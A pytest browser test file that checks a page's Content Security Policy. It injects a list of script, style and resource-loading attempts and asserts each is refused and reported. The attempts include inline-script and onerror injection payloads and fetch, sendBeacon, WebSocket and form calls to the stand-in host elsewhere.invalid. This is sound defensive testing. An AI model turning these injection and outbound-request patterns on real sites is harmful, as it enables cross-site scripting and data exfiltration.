"""Nothing runs in a page that does not belong to it, and nothing is fetched from elsewhere."""

from __future__ import annotations

import time

import pytest
from conftest import ANSWER_LIMIT, NAME, POLL

WATCH = """
window.told = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.told.push(event.effectiveDirective || event.violatedDirective);
});
return true;
"""
ELSEWHERE = "http://elsewhere.invalid"
# What a stranger would try, if a text of his could become part of a page.
ACTS = {
    "script-src": """
const script = document.createElement("script");
script.textContent = "window.ran = true";
document.body.append(script);
""",
    "script-src-attr": """
const place = document.createElement("div");
place.innerHTML = '<img src="data:image/png;base64,x" onerror="window.ran = true">';
document.body.append(place);
""",
    "script-src-elem": f"""
const script = document.createElement("script");
script.src = "{ELSEWHERE}/stranger.js";
document.body.append(script);
""",
    # What the driver runs may turn text into code, so a script of the page has to try.
    "script-src of an address": """
const link = document.createElement("a");
link.href = "javascript:window.ran = true";
document.body.append(link);
link.click();
""",
    "script-src of a data address": """
import("data:text/javascript,window.ran = true").catch(() => {});
""",
    "style-src": """
const style = document.createElement("style");
style.textContent = "body { color: red !important }";
document.body.append(style);
window.ran = getComputedStyle(document.body).color === "rgb(255, 0, 0)" || undefined;
""",
    "style-src-attr": """
document.body.setAttribute("style", "color: red");
window.ran = getComputedStyle(document.body).color === "rgb(255, 0, 0)" || undefined;
""",
    "connect-src": f"""
fetch("{ELSEWHERE}/").catch(() => {{}});
""",
    "connect-src of a beacon": f"""
navigator.sendBeacon("{ELSEWHERE}/", "words");
""",
    "connect-src of a socket": """
try { new WebSocket("ws://elsewhere.invalid/").onerror = () => {}; } catch {}
""",
    "connect-src of another port": """
fetch("http://127.0.0.1:9/").catch(() => {});
""",
    "img-src": f"""
const image = document.createElement("img");
image.src = "{ELSEWHERE}/picture.png";
document.body.append(image);
""",
    "font-src": f"""
const font = new FontFace("strange", "url({ELSEWHERE}/font.woff2)");
font.load().catch(() => {{}});
""",
    "media-src": f"""
const film = document.createElement("video");
film.src = "{ELSEWHERE}/film.webm";
document.body.append(film);
film.load();
""",
    "frame-src": f"""
const frame = document.createElement("iframe");
frame.src = "{ELSEWHERE}/frame.html";
document.body.append(frame);
""",
    "frame-src of our own": """
const frame = document.createElement("iframe");
frame.src = "/";
document.body.append(frame);
""",
    "object-src": f"""
const part = document.createElement("object");
part.data = "{ELSEWHERE}/part.swf";
document.body.append(part);
""",
    "worker-src": """
const made = URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" }));
try {
  const worker = new Worker(made);
  worker.onerror = () => {};
  worker.onmessage = () => { window.ran = true; };
} catch {}
""",
    "base-uri": f"""
const base = document.createElement("base");
base.href = "{ELSEWHERE}/";
document.head.prepend(base);
window.ran = document.baseURI.includes("elsewhere") || undefined;
""",
    "form-action": f"""
const form = document.createElement("form");
form.action = "{ELSEWHERE}/";
form.innerHTML = '<input name="pressure" value="1.5 bar">';
document.body.append(form);
try {{ form.submit(); }} catch {{}}
""",
}


def family(directive: str) -> str:
    """Return what engines that name a directive more or less finely agree on."""
    return directive.split()[0].removesuffix("-elem").removesuffix("-attr")


def reported(server, directive):
    """Wait until the browser reports a refusal of this kind to the server."""
    end, found = time.monotonic() + ANSWER_LIMIT, []
    while time.monotonic() < end:
        found += server.refused()
        if any(family(name) in (directive, "default-src") for name, _ in found):
            return
        time.sleep(POLL)
    raise AssertionError(f"no report of {directive}; reports are {found}")


def refusal(page, act):
    """Try one act. Return what is wrong with the refusal, or nothing."""
    page.js("window.told.length = 0; return true")
    page.server.refused()
    page.js(f"{ACTS[act]} return true;")
    told = page.wait("window.told.length > 0 && window.told")
    if not {family(one) for one in told} <= {family(act), "default-src"}:
        return f"{act}: refused as {told}"
    # The same is heard by the net that hangs behind every other test.
    reported(page.server, family(act))
    return "" if page.js("return window.ran === undefined") else f"{act}: it ran"


@pytest.mark.each_engine
def test_the_page_refuses_what_is_not_its_own(page):
    page.open("/set-the-pre-charge/")
    page.js(WATCH)
    assert [wrong for act in ACTS if (wrong := refusal(page, act))] == []
    assert page.browser.strangers() == []
    # The driver notes what the browser says of it; this time it should.
    page.browser.errors()
    page.server.refused()


def test_the_policy_holds_in_a_worker_where_the_host_sends_it(page):
    page.open("/set-the-pre-charge/")
    told = page.js(
        "return new Promise((done) => {"
        " new Worker('/planted-worker.js').onmessage = ({ data }) => done(data); })"
    )
    assert told == "refused"
    # The net that catches such a request where no policy stands: test_closed_in_browser.py.
    assert page.browser.strangers() == []
    if NAME != "webkitgtk":
        # WebKit refuses in a worker and reports nothing of it.
        reported(page.server, "connect-src")
    page.browser.errors()
    page.server.refused()
